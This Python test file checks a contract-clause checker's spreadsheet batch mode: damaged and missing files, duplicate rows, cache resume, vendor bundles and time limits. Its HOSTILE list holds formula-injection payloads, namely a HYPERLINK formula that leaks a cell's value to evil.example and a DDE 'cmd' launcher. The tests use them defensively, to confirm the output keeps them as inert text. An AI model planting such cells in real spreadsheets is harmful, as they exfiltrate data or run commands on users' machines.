"""clausecheck batch end to end: the corpus named in a sheet, a broken file, hostile cells, resume, bundles."""

from __future__ import annotations

import datetime as dt
import re
import time
import zipfile
from pathlib import Path
from typing import Any

import pytest
from openpyxl import Workbook, load_workbook

from checker.api import ContractChecker, ReadDocument
from checker.batch import BatchOptions, DocsMapping, DocsZip, read_sheet, read_sheet_bytes, run_batch
from checker.cli import main
from checker.extract.limits import Limits
from checker.isolate import IsolationLimits, Source, read_source

ROOT = Path(__file__).resolve().parent.parent
CORPUS = ROOT / "fixtures" / "corpus"
BROKEN = ROOT / "fixtures" / "batch" / "broken-contract.pdf"
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A2,"Click")',
    "+cmd|' /C calc'!A0",
    "-1+1",
    "@SUM(A1)",
    "\t=1+1",
    "\r=2+2",
]
PASTED = (
    "=1+1\nThe Vendor shall notify Customer of any Security Incident within 24 hours of becoming aware of it."
)

#: (vendor, agreement type, file, clause text)
ROWS: list[tuple[str, str, str | None, str | None]] = [
    ("Common Paper", "DPA", "commonpaper-data-processing-agreement.md", None),
    ("Common Paper", "CSA", "commonpaper-cloud-service-agreement.md", None),
    ("GitHub", "DPA", "contracts/github-data-protection-agreement-2023-02.md", None),
    ("37signals", "DPA", "37signals-data-processing-addendum-2023-04.pdf", None),
    ("FAR", "Clause", "far-52.204-21-basic-safeguarding.txt", None),
    ("Broken Ltd", "MSA", "broken-contract.pdf", None),
    ("Missing Inc", "MSA", "no-such-contract.pdf", None),
    (HOSTILE[0], HOSTILE[1], None, PASTED),
    ("Nobody", "MSA", None, None),
    ("Common Paper", "DPA copy", "commonpaper-data-processing-agreement.md", None),
]


def _sheet(path: Path, rows: list[tuple[str, str, str | None, str | None]]) -> Path:
    wb = Workbook()
    ws = wb.active
    assert ws is not None
    ws.append(["Vendor", "Agreement type", "Contract file", "Owner", "Renewal date", "Security clause text"])
    for i, (vendor, kind, file, text) in enumerate(rows):
        owner = HOSTILE[2 + i % 4]
        ws.append([vendor, kind, file, owner, dt.date(2026, 1, 1 + i), text])
    for row in ws.iter_rows(min_row=2):
        for cell in row:
            if isinstance(cell.value, str):
                cell.data_type = "s"  # the input holds the text, not a formula
    wb.save(path)
    return path


def _zip(path: Path) -> Path:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for file in CORPUS.iterdir():
            if file.suffix in (".md", ".pdf", ".txt") and file.name != "SOURCES.md":
                archive.write(file, f"contracts/{file.name}")
        archive.write(BROKEN, "contracts/broken-contract.pdf")
    return path


def _rows(path: Path, sheet: str) -> list[dict[str, Any]]:
    wb = load_workbook(path, read_only=True)
    values = list(wb[sheet].iter_rows(values_only=True))
    wb.close()
    return [dict(zip(values[0], row, strict=False)) for row in values[1:]]


@pytest.fixture(scope="module")
def run(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Any]:
    tmp = tmp_path_factory.mktemp("batch")
    sheet = _sheet(tmp / "portfolio.xlsx", ROWS)
    docs = _zip(tmp / "contracts.zip")
    out = tmp / "scored.xlsx"
    code = main(["batch", str(sheet), "--docs", str(docs), "--out", str(out), "--jobs", "2", "--quiet"])
    return {"code": code, "out": out, "sheet": sheet, "docs": docs, "cache": tmp / ".clausecheck-cache"}


def test_exit_code_says_some_rows_failed(run: dict[str, Any]) -> None:
    assert run["code"] == 1
    assert run["out"].is_file()


def test_every_row_comes_back_in_order_with_its_columns(run: dict[str, Any]) -> None:
    rows = _rows(run["out"], "Results")
    assert [r["Vendor"] for r in rows] == [r[0] for r in ROWS]
    assert [r["Agreement type"] for r in rows] == [r[1] for r in ROWS]
    assert rows[0]["Renewal date"] == "2026-01-01"


def test_statuses_hours_and_scores(run: dict[str, Any]) -> None:
    rows = _rows(run["out"], "Results")
    dpa = rows[0]
    assert dpa["incident_notification"] == "met"
    assert dpa["Notification hours"] == 72
    assert isinstance(dpa["Score"], int | float)
    wb = load_workbook(run["out"])
    try:  # shown whole, halves up, as on every screen (issue 12: Bulk and Review rounded two ways)
        assert wb["Results"].cell(2, list(rows[0]).index("Score") + 1).number_format == "0"
    finally:
        wb.close()
    assert rows[7]["incident_notification"] == "met" and rows[7]["Notification hours"] == 24  # pasted text
    assert rows[3]["Documents assessed"] == "37signals-data-processing-addendum-2023-04.pdf"


def test_bad_rows_say_what_is_wrong(run: dict[str, Any]) -> None:
    rows = _rows(run["out"], "Results")
    assert "damaged" in rows[5]["Errors"] and rows[5]["Score"] is None
    assert "not in" in rows[6]["Errors"] and "no-such-contract.pdf" in rows[6]["Errors"]
    assert "no contract file and holds no clause text" in rows[8]["Errors"]
    errors = _rows(run["out"], "Errors")
    assert [(e["Row"], e["Code"]) for e in errors] == [
        (7, "corrupt"),
        (8, "missing_file"),
        (10, "missing_file"),
    ]


def test_a_duplicated_row_is_scored_once_and_says_so(run: dict[str, Any]) -> None:
    rows = _rows(run["out"], "Results")
    assert rows[9]["Notes"] == "Same document(s) as row 2: scored once, the result is repeated here."
    assert rows[9]["Score"] == rows[0]["Score"] and rows[9]["Errors"] is None
    about = {r["Item"]: r["Value"] for r in _rows(run["out"], "Run")}
    assert about["Jobs (documents or bundles)"] == 7  # 10 rows: 2 without documents, 1 duplicate


def test_gaps_evidence_and_summary(run: dict[str, Any]) -> None:
    gaps = _rows(run["out"], "Gaps")
    assert gaps and all(g["Status"] in ("weak", "conflict", "missing") for g in gaps)
    assert all(g["Fallback language"] for g in gaps if g["Status"] == "missing")
    assert all(re.match(r"[A-Z]{2}-\d\d \w", g["Title"]) for g in gaps)  # catalogue code beside the title
    assert {g["Rows"] for g in gaps if g["Vendor"] == "Common Paper"} >= {"2, 11"}
    assert _rows(run["out"], "Evidence")
    summary = {s["Control"]: s for s in _rows(run["out"], "Summary")}
    incident = summary["incident_notification"]
    assert sum(incident[s] for s in ("met", "weak", "conflict", "missing")) == 6  # jobs with an assessment
    wb = load_workbook(run["out"])
    assert wb["Summary"]._charts and wb["Results"].freeze_panes == "A2"
    assert wb["Results"].conditional_formatting and wb["Results"].auto_filter.ref


def test_no_cell_is_a_formula_and_hostile_text_survives(run: dict[str, Any]) -> None:
    wb = load_workbook(run["out"])
    formulas = [
        f"{ws.title}!{c.coordinate}" for ws in wb for row in ws.iter_rows() for c in row if c.data_type == "f"
    ]
    assert formulas == []
    results = wb["Results"]
    assert results["A9"].value == HOSTILE[0] and results["A9"].quotePrefix
    assert results["B9"].value == HOSTILE[1]
    owners = {results.cell(row=r, column=4).value for r in range(2, 12)}
    assert owners == set(HOSTILE[2:])


def test_resume_skips_what_the_cache_holds(run: dict[str, Any]) -> None:
    sheet = read_sheet(run["sheet"])
    options = BatchOptions(cache_dir=run["cache"], resume=True, workers=1)
    outcome = run_batch(sheet, DocsZip(run["docs"]), options)
    assert outcome.cache_hits == 7 and outcome.scored == 0  # every job, the broken file's error too
    first = _rows(run["out"], "Results")
    assert [r.job is not None and outcome.results[r.job].assessment is not None for r in outcome.rows] == [
        r["Score"] is not None for r in first
    ]


def test_group_by_vendor_makes_one_bundle_per_vendor(tmp_path: Path) -> None:
    rows = [r for r in ROWS if r[0] in ("Common Paper", "FAR")]
    sheet = read_sheet(_sheet(tmp_path / "grouped.xlsx", rows))
    outcome = run_batch(
        sheet, DocsZip(_zip(tmp_path / "docs.zip")), BatchOptions(group_by_vendor=True, workers=2)
    )
    assert [(j.vendor, len(j.docs), len(j.rows)) for j in outcome.jobs] == [
        ("Common Paper", 2, 3),
        ("FAR", 1, 1),
    ]
    bundle = outcome.results[0].assessment
    assert bundle is not None and len(bundle.documents) == 2
    assert outcome.rows[3].notes == [
        "commonpaper-data-processing-agreement.md is already in this vendor's bundle from row 2; read once."
    ]
    assert {r.job for r in outcome.rows} == {0, 1}


def stalling_reader(checker: ContractChecker, source: Source, limits: Limits) -> ReadDocument:
    """Reads normally, except that a document called stall.txt never finishes."""
    if source.name == "stall.txt":
        time.sleep(600)
    return read_source(checker, source, limits)


def test_a_document_that_stalls_costs_only_its_row_and_is_not_cached(tmp_path: Path) -> None:
    text = "The Vendor shall notify Customer of any Security Incident within 24 hours."
    sheet = read_sheet_bytes(b"Vendor,Contract file\nSlow,stall.txt\nFast,fast.txt\n", "v.csv")
    docs = DocsMapping({"stall.txt": text.encode() + b" (slow)", "fast.txt": text.encode()})
    limits = IsolationLimits(timeout_s=2)
    options = BatchOptions(workers=1, limits=limits, cache_dir=tmp_path, reader=stalling_reader)
    outcome = run_batch(sheet, docs, options)
    slow, fast = outcome.rows
    assert [e.code for e in slow.errors] == ["limit_exceeded"] and "time limit (2 s)" in slow.errors[
        0
    ].message
    assert fast.errors == [] and fast.job is not None and outcome.results[fast.job].assessment is not None
    assert len(list(tmp_path.rglob("*.json"))) == 1  # the next run tries the stalled document again
